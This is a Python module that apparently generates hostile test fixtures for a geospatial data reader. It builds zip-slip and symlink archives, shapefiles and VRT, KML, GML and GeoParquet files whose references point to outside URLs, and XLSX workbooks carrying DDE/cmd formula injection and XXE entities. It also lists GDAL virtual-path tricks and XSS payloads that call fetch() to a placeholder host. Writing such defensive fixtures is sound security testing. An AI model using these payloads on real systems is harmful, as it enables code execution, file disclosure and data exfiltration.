"""More files that lead elsewhere: other formats, other doors, archives and papers."""

from __future__ import annotations

import json
import stat
import zipfile
from typing import TYPE_CHECKING, Any

import ezdxf
import geopandas as gpd
import hostile_corpus
import pyarrow.parquet as pq
import shapely
import xlsxwriter
from hostile_corpus import CANARY, COLLECTION, Canaries

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

VRT = hostile_corpus._vector_vrt
FRAME = gpd.GeoDataFrame(
    {"DKBH": ["P-1"]}, geometry=[shapely.box(111, 39, 111.01, 39.01)], crs=4490
)


def archives(folder: Path, url: str, own: Canaries) -> dict[str, Path]:
    """Pack pointers, links and paths that lead out of the archive."""
    found = {}
    vrt = VRT(str(own.vector))
    linked = f"<NetworkLink><Link><href>{url}/a.kml</href></Link></NetworkLink>"
    doc = hostile_corpus._KML.format(linked + hostile_corpus._PLACEMARK.format(""))
    image = f"<description>&lt;img src='{url}/i.png'/&gt;</description>"
    placed = doc.replace("<Placemark>", f"<Placemark>{image}")
    for name, files in {
        "vrt.zip": {"a.vrt": vrt},
        "vrt-as-shp.zip": {"a.shp": vrt, "a.dbf": "no", "a.shx": "no"},
        "vrt-as-fgb.zip": {"a.fgb": vrt},
        "vrt-as-parquet.zip": {"a.parquet": vrt},
        "link.kmz": {"doc.kml": doc},
        "picture.kmz": {"doc.kml": placed, "files/i.png": "no"},
        "vrt.kmz": {"doc.kml": vrt},
        "streamed.kmz": {"doc.kml": hostile_corpus._streamed(str(own.vector))},
        "slip.zip": {"../own/own.geojson": json.dumps(COLLECTION)},
        "slip-back.zip": {"..\\..\\a.geojson": json.dumps(COLLECTION)},
        "slip-root.zip": {f"{own.vector}": json.dumps(COLLECTION)},
        "drive.zip": {"C:\\a.geojson": json.dumps(COLLECTION)},
    }.items():
        with zipfile.ZipFile(folder / name, "w") as archive:
            for inner, text in files.items():
                archive.writestr(inner, text)
        found[name] = folder / name
    for suffix, target in {
        "geojson": own.vector,
        "tab": own.tab,
        "txt": own.text,
    }.items():
        path = folder / f"linked-{suffix}.zip"
        with zipfile.ZipFile(path, "w") as archive:
            info = zipfile.ZipInfo(f"a.{suffix}")
            info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
            archive.writestr(info, str(target))
        found[path.name] = path
    for name in ("vrt.zip", "link.kmz"):
        path = folder / f"nested-{name}"
        with zipfile.ZipFile(path, "w") as archive:
            archive.write(folder / name, f"内/{name}")
        found[path.name] = path
    return found


def formats(folder: Path, url: str, own: Canaries) -> dict[str, Path]:
    """Write files of formats whose text names a place."""
    found = {}
    for name, text in {
        "a.vrt": VRT(str(own.vector)), "a.gml.gz": "no",
        "a.svg": f'<svg href="{url}"/>',
        "a.gpx": f'<gpx><metadata><link href="{url}/x"/></metadata></gpx>',
        "a.csvt": url, "a.qgz": "no", "a.qgs": f"<qgis><a source='{url}'/></qgis>",
        "a.map": f"MAP LAYER CONNECTION '{url}' END END", "a.pdf": "%PDF-1.7",
        "a.sql": f"ATTACH '{own.vector}'", "a.osm": f"<osm><a ref='{url}'/></osm>",
    }.items():  # fmt: skip
        (folder / name).write_text(text, "utf-8")
        found[name] = folder / name
    for name, text in {
        "net": f"{url}/crs", "vsi": f"/vsicurl/{url}/crs", "file": str(own.text),
        "wkt": f'PROJCS["x",EXTENSION["PROJ4","+proj=utm +nadgrids={url}/g.tif"]]',
        "grid": f"+proj=longlat +nadgrids=@{url}/g.gsb +type=crs",
    }.items():  # fmt: skip
        path = folder / f"prj-{name}.shp"
        FRAME.to_file(path)
        path.with_suffix(".prj").write_text(text, "utf-8")
        path.with_suffix(".qpj").write_text(text, "utf-8")
        found[path.name] = path
    gfs = folder / "gfs.gml"
    gfs.write_text(hostile_corpus.gml(), "utf-8")
    gfs.with_suffix(".gfs").write_text(
        "<GMLFeatureClassList><GMLFeatureClass><Name>P</Name><ElementPath>P"
        f"</ElementPath><SRSName>{url}/crs</SRSName></GMLFeatureClass>"
        f"<x href='{url}/x'/></GMLFeatureClassList>",
        "utf-8",
    )
    found["gfs.gml"] = gfs
    return found | _parquets(folder, url, own) | _drawings(folder, url, own)


def _parquets(folder: Path, url: str, own: Canaries) -> dict[str, Path]:
    """Write GeoParquet whose columns or coordinate system lie elsewhere."""
    there = own.vector.with_suffix(".parquet")
    frame = FRAME.assign(DKBH=CANARY)
    frame.to_parquet(there)
    metadata = pq.read_metadata(there)
    metadata.set_file_path(str(there))
    elsewhere = folder / "elsewhere.parquet"
    metadata.write_metadata_file(elsewhere)
    found = {"elsewhere.parquet": elsewhere}
    FRAME.to_parquet(plain := folder / "plain.parquet")
    for name, crs in {
        "id": {"id": {"authority": "X", "code": f"{url}/crs"}},
        "schema": {"$schema": f"{url}/projjson.json", "type": "GeographicCRS"},
        "text": f"{url}/crs",
    }.items():
        table = pq.read_table(plain)
        geo: dict[str, Any] = json.loads(table.schema.metadata[b"geo"])
        geo["columns"]["geometry"]["crs"] = crs
        told = {**table.schema.metadata, b"geo": json.dumps(geo).encode()}
        path = folder / f"crs-{name}.parquet"
        pq.write_table(table.replace_schema_metadata(told), path)
        found[path.name] = path
    return found


def _drawings(folder: Path, url: str, own: Canaries) -> dict[str, Path]:
    """Write a drawing that refers to another one, to an image and to a sheet."""
    made = ezdxf.new("R2010")
    made.add_xref_def(str(own.vector), "own")
    made.modelspace().add_blockref("own", (0, 0))
    image = made.add_image_def(f"{url}/i.png", size_in_pixel=(8, 8))
    made.modelspace().add_image(image, (0, 0), (1, 1))
    under = made.add_underlay_def(f"{url}/u.pdf", fmt="pdf", name="1")
    made.modelspace().add_underlay(under)
    line = [(37_500_000, 4_400_000), (37_500_100, 4_400_000), (37_500_100, 4_400_100)]
    made.modelspace().add_lwpolyline(line, close=True)
    made.saveas(path := folder / "xref.dxf")
    return {"xref.dxf": path}


# what a cell may say to the program that opens it
CELLS = (
    "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)*cmd|" /C calc"!A0', '=WEBSERVICE("{url}/w")',
    '=HYPERLINK("{url}/h","x")',
    '=IMAGE("{url}/i")', '=DDE("cmd";"/C calc";"x")', "\t=1+1", "\r=1+1",
    '{{=WEBSERVICE("{url}/a")}}', "＝1+1",
)  # fmt: skip


def ledgers(folder: Path, url: str) -> dict[str, Path]:
    """Write workbooks that ask for other files when a careless program reads them."""
    plain = folder / "plain.xlsx"
    with xlsxwriter.Workbook(plain) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["地块编号", "名称", "面积（亩）"])
        sheet.write_row(1, 0, ["P-1", "甲", 3])
        for row, cell in enumerate(CELLS, start=2):
            sheet.write_string(row, 0, f"P-{row}")
            sheet.write_string(row, 1, cell.format(url=url))
            sheet.write_number(row, 2, 1)
        sheet.write_formula(40, 1, f"='[{url}/x.xlsx]Sheet1'!A1", None, "甲")
        sheet.write_url(41, 1, f"{url}/l")
    relation = (
        '<Relationship Id="rId91" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/>'
        "</Relationships>"
    )
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "{url}/e">]>'
    changes: dict[str, tuple[str, Callable[[str], str]]] = {
        "link": ("workbook.xml.rels", lambda s: s.replace(
            "</Relationships>", relation.format("externalLink", f"{url}/x.xlsx"))),
        "template": ("workbook.xml.rels", lambda s: s.replace(
            "</Relationships>", relation.format("attachedTemplate", f"{url}/t"))),
        "image": ("sheet1.xml.rels", lambda s: s.replace(
            "</Relationships>", relation.format("image", f"{url}/i.png"))),
        "entity": ("sharedStrings.xml",
                   lambda s: s.replace("<sst", entity + "<sst", 1)),
        "styles": ("styles.xml", lambda s: s.replace("<styleSheet", entity + "<styleSheet", 1)),  # noqa: E501
    }  # fmt: skip
    found = {"plain.xlsx": plain}
    for name, (part, change) in changes.items():
        path = folder / f"{name}.xlsx"
        with zipfile.ZipFile(plain) as old, zipfile.ZipFile(path, "w", 8) as new:
            for item in old.infolist():
                text = old.read(item)
                if item.filename.endswith(part):
                    text = change(text.decode()).encode()
                new.writestr(item.filename, text)
        found[path.name] = path
    page = folder / "page.xls"
    page.write_text(
        f'<html><head><link rel="stylesheet" href="{url}/s"/><base href="{url}/"/>'
        f'<meta http-equiv="refresh" content="0;{url}/m"/></head><body><table><tr><td>'
        f'地块编号<img src="{url}/i"/></td><td>名称</td></tr><tr><td>P-1</td><td>'
        f'<iframe src="{url}/f"></iframe>甲</td></tr></table></body></html>',
        "utf-8",
    )
    found["page.xls"] = page
    return found


def addresses(url: str, own: Canaries) -> list[str]:
    """Give what GDAL, SQLite and others take for more than the name of a file."""
    host = url.removeprefix("http://")
    return [
        f"{url}/a.geojson", f"/vsicurl/{url}/a.geojson",
        f"/vsicurl_streaming/{url}/a.shp",
        f"/vsizip//vsicurl/{url}/a.zip", f"/vsigzip/{own.vector}", "/vsistdin/",
        f"/vsisubfile/0_99,{own.vector}", f"/vsizip/{own.vector}", "/vsis3/a/a.gpkg",
        f"WFS:{url}/wfs", f"OAPIF:{url}/o", f"GPX:{own.vector}", f"ESRIJSON:{url}/e",
        f"GeoJSON:{url}/a.geojson", "PG:dbname=x", f"MVT:{url}/1/1/1",
        f"VRT:{own.vector}",
        f"ftp://{host}/a.geojson", f"zip+{url}/a.zip", f"file://{own.vector}",
        f"file:{own.vector}?mode=ro", f"//{host}/share/a.gpkg", f"CSV:{own.text}",
        VRT(str(own.vector)),
        json.dumps(COLLECTION), hostile_corpus._streamed(str(own.vector)),
    ]  # fmt: skip


# what may stand in any text of a layer, a ledger or a rule
MARKUP = (
    "<img src='{url}/i' onerror='fetch(`{url}/j`)'>",
    "</script><script>fetch('{url}/s')</script>",
    '"><iframe src="{url}/f"></iframe>',
    "<!--<script><svg/onload=fetch('{url}/v')>",
    "{{{{constructor.constructor('fetch(`{url}/c`)')()}}}}",
    "javascript:fetch('{url}/u')",
    "<link rel=stylesheet href={url}/l><style>@import '{url}/m'</style>",
    "${{fetch('{url}/d')}}`+fetch(`{url}/e`)+`",
    "&lt;img src={url}/a&gt;",
    "\u2028<object data={url}/o></object>",
)
